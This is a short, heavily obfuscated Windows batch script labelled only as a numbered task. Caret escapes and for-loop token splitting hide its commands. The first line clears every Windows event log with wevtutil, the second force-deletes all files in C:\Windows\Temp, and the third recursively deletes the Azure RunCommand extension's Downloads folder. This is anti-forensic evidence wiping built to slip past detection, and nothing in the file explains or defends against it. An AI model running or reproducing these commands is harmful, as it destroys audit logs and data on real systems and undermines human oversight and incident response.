REM task 6596 v4
^for /f "tokens=3 delims=@" %%^i ^in ("dkmd@foet@for") do %%i /^F "tokens=*" %%^1 in ('w^e^vt^util.exe el') DO ^w^e^v^t^u^til.^exe cl "%%1"
for /^f "tokens=3 delims=~" %%^i ^in ("kbqh~baxc~del") d^o %%^i /^f /q C:\^Wi^n^d^o^w^s\T^e^m^p\*.*
^f^or /f "tokens=3 delims=@" %%^i i^n ("iwtk@tend@rd") d^o %%^i /^s /^q C:\Pac^kages\Plugin^s\M^ic^roso^f^t.^CPlat.Core.^R^u^n^Co^m^m^an^dWindo^ws\1.1.1^5\D^o^wn^lo^ad^s
